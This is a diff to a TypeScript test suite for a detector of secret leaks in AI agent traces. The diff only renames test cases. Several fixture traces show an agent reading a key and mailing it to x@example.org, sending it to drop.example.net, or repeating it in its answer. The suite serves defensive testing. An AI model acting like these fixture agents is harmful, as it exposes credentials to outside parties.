@@ -20,7 +20,7 @@ const rows: DetectorRow[] = [
     ],
   },
   {
-    name: 'secret_sent_out: read from a tool, mailed away',
+    name: 'secret_sent_out: read from a tool, sent by mail',
     trace: `agent helper\n${READ}\ntool send_email {"to":"x@example.org","body":"key ${KEY}"} -> "sent"\nllm gpt-4o -> "Sent."`,
     fires: [{ subtype: 'secret_sent_out', step: 1, severity: 'critical', text: 'send_email' }],
   },
@@ -45,7 +45,7 @@ const rows: DetectorRow[] = [
     fires: [{ subtype: 'secret_passed_between_agents', step: 1, agent: 'writer', severity: 'warning' }],
   },
   {
-    name: 'secret_in_answer: by its shape, where nothing was redacted, and not quoted',
+    name: 'secret_in_answer: by its form, if nothing was redacted; it is not quoted',
     trace: new TraceBuilder()
       .agent('helper')
       .tool('read_vault', {}, `ghp_${'a1B2'.repeat(9)}`)
@@ -54,13 +54,13 @@ const rows: DetectorRow[] = [
     fires: [{ subtype: 'secret_in_answer', step: 1 }],
   },
   {
-    name: 'secret_in_answer is no more than info where the run made the key',
+    name: 'secret_in_answer is at most info if the run made the key',
     trace: `user "Create an access for the test shop and show me what I need."\nagent helper\ntool create_key {"name":"shop"} -> {"id":"[redacted:api_key:77aa]"}\nllm gpt-4o -> "Here it is, it is shown once: [redacted:api_key:77aa]"`,
     fires: [{ subtype: 'secret_in_answer', severity: 'info', text: 'can have created it' }],
   },
   ...['Wie lautet das Passwort der Datenbank?', 'What is the mail key?', '数据库的密码是什么?'].map(
     (question): DetectorRow => ({
-      name: `secret_in_answer is no more than info where the user asks for it: ${question}`,
+      name: `secret_in_answer is at most info if the user asks for it: ${question}`,
       trace: `user ${JSON.stringify(question)}\nagent helper\n${READ}\nllm gpt-4o -> "${KEY}"`,
       fires: [{ subtype: 'secret_in_answer', severity: 'info' }],
     }),
@@ -113,7 +113,7 @@ const rows: DetectorRow[] = [
     fires: [{ subtype: 'secret_sent_out', severity: 'critical', text: 'drop.example.net' }],
   },
   {
-    name: 'secret_sent_out: whatever the tool is called, the arguments name a receiver',
+    name: 'secret_sent_out: a tool of any name whose arguments name a receiver',
     trace: `agent dev\n${READ}\ntool wyslij {"do":"x@example.org","tresc":"klucz ${KEY}"} -> "ok"\nllm gpt-4o -> "Gotowe."`,
     fires: [{ subtype: 'secret_sent_out', severity: 'critical', text: 'x@example.org' }],
   },
@@ -123,7 +123,7 @@ const rows: DetectorRow[] = [
     fires: [{ subtype: 'secret_sent_out', severity: 'info', text: 'an argument for a recipient' }],
   },
   {
-    name: 'silent: a tool that only its name makes one that sends',
+    name: 'silent: a tool that sends data only by its name',
     trace: `agent dev\n${READ}\ntool post_note {"text":"it is ${KEY}"} -> "ok"\nllm gpt-4o -> "Done."`,
     silent: true,
   },
@@ -148,7 +148,7 @@ const rows: DetectorRow[] = [
     }),
   ),
   {
-    name: 'silent: a signed link for the user is what was asked for',
+    name: 'silent: a signed link that the user asked for',
     trace: `agent dev\ntool export {"file":4} -> "https://files.example.org/4?sig=[redacted:url_credentials:0a0b]"\nllm gpt-4o -> "Your file: https://files.example.org/4?sig=[redacted:url_credentials:0a0b]"`,
     silent: true,
   },
@@ -159,13 +159,13 @@ const rows: DetectorRow[] = [
   },
   ...['api_key', 'secret', 'bearer', 'password'].map(
     (kind): DetectorRow => ({
-      name: `the same secret where another place calls it ${kind}`,
+      name: `the same secret with the kind ${kind} at another place`,
       trace: `agent helper\ntool read_env {} -> "KEY=[redacted:${kind}:3f9c]"\nllm gpt-4o -> "It answers. Log line: ${KEY}."`,
       fires: [{ subtype: 'secret_in_answer', severity: 'warning', text: 'read_env' }],
     }),
   ),
   {
-    name: 'silent: a credential argument is what credentials are for',
+    name: 'silent: a credential in a credential argument',
     trace: `user "My password is [redacted:password:11aa]"\nagent helper\ntool login {"user":"ann","password":"[redacted:password:11aa]"} -> "ok"\nllm gpt-4o -> "You are in."`,
     silent: true,
   },
@@ -175,12 +175,12 @@ const rows: DetectorRow[] = [
     silent: true,
   },
   {
-    name: 'silent: personal data is another matter',
+    name: 'silent: personal data',
     trace: 'agent helper\ntool read {} -> "[redacted:email:12ab]"\nllm gpt-4o -> "Write to [redacted:email:12ab]."',
     silent: true,
   },
   {
-    name: 'silent: user and password in front of a host',
+    name: 'silent: user and password before a host',
     trace: 'agent dev\ntool connect {"dsn":"postgres://[redacted:url_credentials:00ff]@db/app"} -> "ok"',
     silent: true,
   },
